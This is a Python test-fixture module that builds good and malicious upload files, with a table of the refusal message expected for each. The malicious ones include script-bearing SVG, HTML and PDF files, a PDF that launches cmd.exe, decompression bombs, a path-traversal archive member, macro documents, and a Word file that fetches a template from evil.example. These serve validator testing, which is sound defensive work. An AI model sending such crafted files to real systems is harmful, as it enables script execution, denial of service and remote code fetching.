"""Files to upload: good ones, and every kind of bad one, each made small in memory."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image
from pypdf import PdfWriter

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><title>x</title><script>alert(document.domain)</script>"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """A picture: red at the left, blue at the right."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    image = image.convert(mode)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def located(orientation: int = 1) -> bytes:
    """A photograph that says where it was taken, by whom, and which way is up."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = "Alice Doe"
    exif.get_ifd(0x8825).update({1: "N", 2: (44.0, 29.0, 38.0), 3: "E", 4: (11.0, 20.0, 34.0)})
    return picture(size=(60, 40), exif=exif, comment=b"Taken at home")


def png(width: int, height: int) -> bytes:
    """A black PNG of any size in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" * ((width + 7) // 8 + 1) * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def moving() -> bytes:
    """A WebP of two pictures."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def pdf(catalogue: bytes = b"", padding: int = 0) -> bytes:
    """A PDF of one empty page; `catalogue` is what its first object says besides."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R %s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Length %d>>stream\n%s\nendstream" % (padding, b" " * padding),
    ]
    out, places = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + (
        b"xref\n0 5\n0000000000 65535 f \n%strailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))
    )


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    writer.encrypt("secret", algorithm="RC4-40")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed(members: dict[str, bytes], stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_STORED if name in stored else None)
    return out.getvalue()


def docx(main: str = f"{DOCX}.main+xml", **members: bytes) -> bytes:
    """A Word document of one paragraph; `members` are added, or take the place of what is there."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    body = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
    held = {"[Content_Types].xml": types.encode(), "_rels/.rels": rels.encode(), "word/document.xml": body.encode()}
    return packed({**held, **members})


def odt(kind: str = ODT, **members: bytes) -> bytes:
    """An OpenDocument text of no word."""
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>'
    )
    content = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
    held = {"mimetype": kind.encode(), "META-INF/manifest.xml": manifest.encode(), "content.xml": content.encode()}
    return packed({**held, **members}, stored=("mimetype",))


def outside_template() -> bytes:
    """A Word document that fetches its template from the internet."""
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(**{"word/_rels/settings.xml.rels": rels})


REFUSED = {
    # name of the file: what it holds, as what it is sent, words of the refusal
    "page.jpg": (HTML, "image", "is not a JPEG, PNG or WebP picture"),
    "drawing.svg": (SVG, "image", "is not a JPEG, PNG or WebP picture"),
    "drawing.png": (SVG, "image", "is not a JPEG, PNG or WebP picture"),
    "report.jpg": (pdf(), "image", "is not a JPEG, PNG or WebP picture"),
    "anim.gif": (picture("GIF"), "image", "is not a JPEG, PNG or WebP picture"),
    "wall.png": (png(10_000, 10_000), "image", "too large: 10000 by 10000 dots"),
    "cut.jpg": (picture(size=(900, 900))[:900], "image", "is damaged or incomplete"),
    "head.png": (b"\x89PNG\r\n\x1a\n" + HTML, "image", "is damaged or incomplete"),
    "moving.webp": (moving(), "image", "is a moving picture"),
    "empty.jpg": (b"", "image", "is empty"),
    "page.pdf": (HTML, "attachment", "is not a PDF, Word (DOCX) or OpenDocument (ODT) file"),
    "photo.pdf": (picture(), "attachment", "is not a PDF, Word"),
    "late.pdf": (HTML + pdf(), "attachment", "is not a PDF, Word"),
    "cut.pdf": (pdf()[:-60], "attachment", "is damaged or incomplete"),
    "hollow.pdf": (b"%PDF-1.4\nstartxref\n0\n%%EOF\n", "attachment", "is damaged or incomplete"),
    "large.pdf": (pdf(padding=11 * 1024**2), "attachment", "is too large: the limit is 10 MB"),
    "script.pdf": (pdf(b"/OpenAction<</S/JavaScript/JS(app.alert)>>"), "attachment", "holds a script"),
    "hidden.pdf": (pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert)>>"), "attachment", "holds a script"),
    "film.pdf": (pdf(b"/OpenAction<</S/Rendition/JS(app.alert)>>"), "attachment", "holds a script"),
    "start.pdf": (pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "attachment", "starts a program"),
    "carrier.pdf": (pdf(b"/Names<</EmbeddedFiles 3 0 R>>"), "attachment", "carries other files"),
    "locked.pdf": (locked_pdf(), "attachment", "protected with a password"),
    "both.pdf": (pdf()[:-6] + docx() + b"\n%%EOF\n", "attachment", "is two files in one"),
    "bomb.docx": (docx(**{"word/media/x.bin": b"\0" * 200_000_000}), "attachment", "holds far more than its size says"),
    "many.docx": (docx(**{f"x/{n}": b"" for n in range(4000)}), "attachment", "holds far more than its size says"),
    "laughs.docx": (docx(**{"word/settings.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "attachment",
                    "is damaged or incomplete"),
    "macro.docx": (docx(**{"word/vbaProject.bin": b"x"}), "attachment", "holds a program (a macro)"),
    "macro2.docx": (docx("application/vnd.ms-word.document.macroEnabled.main+xml"), "attachment", "(a macro)"),
    "fetch.docx": (outside_template(), "attachment", "fetches a template from the internet"),
    "sheet.docx": (docx("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "attachment",
                   "is not a PDF, Word"),
    "climb.docx": (docx(**{"../../evil.xml": b"<a/>"}), "attachment", "is damaged or incomplete"),
    "cut.docx": (docx()[:-30], "attachment", "is damaged or incomplete"),
    "basic.odt": (odt(**{"Basic/Standard/Module1.xml": b"<a/>"}), "attachment", "holds a program (a macro)"),
    "sheet.odt": (odt("application/vnd.oasis.opendocument.spreadsheet"), "attachment", "is not a PDF, Word"),
    "plain.zip": (packed({"a.txt": b"x"}), "attachment", "is not a PDF, Word"),
}  # fmt: skip
